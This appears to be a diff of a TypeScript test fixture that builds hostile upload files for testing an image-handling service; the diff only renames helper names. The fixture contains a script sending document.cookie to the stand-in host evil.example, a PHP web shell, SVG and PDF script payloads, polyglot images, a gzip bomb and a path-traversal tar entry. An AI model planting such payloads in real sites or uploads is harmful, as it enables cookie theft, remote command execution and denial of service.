@@ -5,7 +5,7 @@ import {
   gpsTiff,
   heic,
   jpeg,
-  join,
+  joinBytes,
   png,
   pngChunk,
   segment,
@@ -22,46 +22,53 @@ export interface HostileFile {
 }
 
 /** A marker in every hidden part; no stored byte may contain it. */
-export const HIDDEN = "HIDDEN-BY-THE-SENDER";
+export const HIDDEN_TEXT = "HIDDEN-BY-THE-SENDER";
 /** The location that `gpsTiff` writes. */
 export const PLACE = "151 12 36";
-const SCRIPT = `<script>fetch("https://evil.example/?"+document.cookie)//${HIDDEN}</script>`;
+const SCRIPT = `<script>fetch("https://evil.example/?"+document.cookie)//${HIDDEN_TEXT}</script>`;
 const MEGABYTE = 1024 * 1024;
 
 /** A ZIP with one uncompressed file. */
 function zip(name: string, content: Uint8Array): Uint8Array<ArrayBuffer> {
-  const small = (value: number, bytes: number) =>
+  const littleEndian = (value: number, bytes: number) =>
     Uint8Array.from({ length: bytes }, (_, at) => (value >>> (8 * at)) & 255);
   const packed = Uint8Array.from(deflateRawSync(content));
-  const header = join(
-    small(20, 2),
-    small(0, 2),
-    small(8, 2),
-    small(0, 4),
-    small(0, 4),
-    small(packed.length, 4),
-    small(content.length, 4),
-    small(name.length, 2),
-    small(0, 2),
+  const header = joinBytes(
+    littleEndian(20, 2),
+    littleEndian(0, 2),
+    littleEndian(8, 2),
+    littleEndian(0, 4),
+    littleEndian(0, 4),
+    littleEndian(packed.length, 4),
+    littleEndian(content.length, 4),
+    littleEndian(name.length, 2),
+    littleEndian(0, 2),
   );
-  const local = join(ascii("PK\x03\x04"), header, ascii(name), packed);
-  const central = join(ascii("PK\x01\x02"), small(20, 2), header, small(0, 10), small(0, 4), ascii(name));
-  return join(
+  const local = joinBytes(ascii("PK\x03\x04"), header, ascii(name), packed);
+  const central = joinBytes(
+    ascii("PK\x01\x02"),
+    littleEndian(20, 2),
+    header,
+    littleEndian(0, 10),
+    littleEndian(0, 4),
+    ascii(name),
+  );
+  return joinBytes(
     local,
     central,
     ascii("PK\x05\x06"),
-    small(0, 4),
-    small(1, 2),
-    small(1, 2),
-    small(central.length, 4),
-    small(local.length, 4),
-    small(0, 2),
+    littleEndian(0, 4),
+    littleEndian(1, 2),
+    littleEndian(1, 2),
+    littleEndian(central.length, 4),
+    littleEndian(local.length, 4),
+    littleEndian(0, 2),
   );
 }
 
 const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
 const html = `<!doctype html><html><body>${SCRIPT}</body></html>`;
-const pdf = `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert("${HIDDEN}"))>>>>endobj`;
+const pdf = `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert("${HIDDEN_TEXT}"))>>>>endobj`;
 
 /** Files that an attacker could send to harm us or the viewers: sixty kinds, the same for the same seed. */
 export function hostileFiles(chance: Chance): readonly HostileFile[] {
@@ -73,15 +80,15 @@ export function hostileFiles(chance: Chance): readonly HostileFile[] {
   const files: (readonly [name: string, bytes: Uint8Array<ArrayBuffer>, extension?: HostileFile["extension"]])[] = [
     ["SVG with a script", ascii(svg)],
     ["SVG named PNG", ascii(svg), "png"],
-    ["SVG after a byte order mark", join(new Uint8Array([0xef, 0xbb, 0xbf]), ascii(svg)), "webp"],
+    ["SVG after a byte order mark", joinBytes(new Uint8Array([0xef, 0xbb, 0xbf]), ascii(svg)), "webp"],
     ["HTML named JPEG", ascii(html)],
     ["HTML named WebP", ascii(html), "webp"],
-    ["HTML behind a JPEG's first bytes", join(new Uint8Array([0xff, 0xd8, 0xff]), ascii(html))],
+    ["HTML behind a JPEG's first bytes", joinBytes(new Uint8Array([0xff, 0xd8, 0xff]), ascii(html))],
     ["HTML behind a GIF's first bytes", ascii(`GIF89a/*${html}`)],
     ["PDF with a script", ascii(pdf)],
     ["PHP", ascii("<?php system($_GET['c']); ?>")],
-    ["a Windows program", join(ascii("MZ"), noise(400))],
-    ["an ELF program", join(new Uint8Array([0x7f]), ascii("ELF"), noise(400))],
+    ["a Windows program", joinBytes(ascii("MZ"), noise(400))],
+    ["an ELF program", joinBytes(new Uint8Array([0x7f]), ascii("ELF"), noise(400))],
     ["JPEG with a script in a comment", jpeg({ before: [segment(0xfe, ascii(SCRIPT))] })],
     ["JPEG with a page after its end", jpeg({ after: ascii(html) })],
     ["JPEG with a ZIP after its end", jpeg({ after: zip("index.html", ascii(html)) })],
@@ -93,27 +100,27 @@ export function hostileFiles(chance: Chance): readonly HostileFile[] {
     ["PNG with an unknown chunk", png({ extra: [pngChunk("hIde", ascii(SCRIPT))] }), "png"],
     [
       "PNG with a compressed page in its profile",
-      png({ extra: [pngChunk("iCCP", join(ascii("x\0\0"), Uint8Array.from(gzipSync(SCRIPT))))] }),
+      png({ extra: [pngChunk("iCCP", joinBytes(ascii("x\0\0"), Uint8Array.from(gzipSync(SCRIPT))))] }),
       "png",
     ],
     ["WebP with a script in XMP", webp({ flags: 4, extra: [webpChunk("XMP ", ascii(SCRIPT))] }), "webp"],
     ["WebP with a page after its end", webp({ after: ascii(html) }), "webp"],
     ["WebP with an unknown chunk", webp({ extra: [webpChunk("HIDE", ascii(SCRIPT))] }), "webp"],
-    ["JPEG named PNG", jpeg({ before: [segment(0xfe, ascii(HIDDEN))] }), "png"],
-    ["PNG named JPEG", png({ extra: [pngChunk("tEXt", ascii(HIDDEN))] })],
+    ["JPEG named PNG", jpeg({ before: [segment(0xfe, ascii(HIDDEN_TEXT))] }), "png"],
+    ["PNG named JPEG", png({ extra: [pngChunk("tEXt", ascii(HIDDEN_TEXT))] })],
     ["WebP named JPEG", webp()],
     ["HEIC", heic],
     ["GIF", ascii("GIF89a\x01\0\x01\0\0\0\0;")],
-    ["BMP", join(ascii("BM"), noise(60))],
-    ["TIFF with a place", join(gpsTiff(1), noise(40))],
-    ["an icon", join(new Uint8Array([0, 0, 1, 0]), noise(60))],
+    ["BMP", joinBytes(ascii("BM"), noise(60))],
+    ["TIFF with a place", joinBytes(gpsTiff(1), noise(40))],
+    ["an icon", joinBytes(new Uint8Array([0, 0, 1, 0]), noise(60))],
     ["JPEG with GPS", jpeg({ before: [exif] })],
     ["JPEG with GPS twice", jpeg({ before: [exif, exif] })],
     ["JPEG with GPS in a second picture", jpeg({ after: jpeg({ before: [exif] }) })],
     ["JPEG with GPS under another application's number", jpeg({ before: [segment(0xe7, gpsTiff(1))] })],
     [
       "JPEG with XMP",
-      jpeg({ before: [segment(0xe1, ascii(`http://ns.adobe.com/xap/1.0/\0<x>${PLACE} ${HIDDEN}</x>`))] }),
+      jpeg({ before: [segment(0xe1, ascii(`http://ns.adobe.com/xap/1.0/\0<x>${PLACE} ${HIDDEN_TEXT}</x>`))] }),
     ],
     ["PNG with GPS", png({ extra: [pngChunk("eXIf", gpsTiff(3))] }), "png"],
     ["PNG with GPS in a text", png({ extra: [pngChunk("zTXt", ascii(`Raw profile type exif\0\0${PLACE}`))] }), "png"],
@@ -136,19 +143,19 @@ export function hostileFiles(chance: Chance): readonly HostileFile[] {
     ["16 MB", jpeg({ after: new Uint8Array(16 * MEGABYTE) })],
     [
       "JPEG with a thousand comments",
-      jpeg({ before: Array.from({ length: 1_000 }, () => segment(0xfe, ascii(HIDDEN))) }),
+      jpeg({ before: Array.from({ length: 1_000 }, () => segment(0xfe, ascii(HIDDEN_TEXT))) }),
     ],
     [
       "PNG with a thousand texts",
-      png({ extra: Array.from({ length: 1_000 }, () => pngChunk("tEXt", ascii(HIDDEN))) }),
+      png({ extra: Array.from({ length: 1_000 }, () => pngChunk("tEXt", ascii(HIDDEN_TEXT))) }),
       "png",
     ],
     ["ZIP", zip("index.html", ascii(html))],
     ["gzip bomb", Uint8Array.from(gzipSync(new Uint8Array(8 * MEGABYTE)))],
-    ["tar", join(ascii("../../index.html"), new Uint8Array(84), noise(412))],
+    ["tar", joinBytes(ascii("../../index.html"), new Uint8Array(84), noise(412))],
     [
       "PNG whose chunk says it is four gigabytes",
-      join(png().slice(0, 8), new Uint8Array([0xff, 0xff, 0xff, 0xff]), ascii("IHDR"), noise(30)),
+      joinBytes(png().slice(0, 8), new Uint8Array([0xff, 0xff, 0xff, 0xff]), ascii("IHDR"), noise(30)),
       "png",
     ],
   ];
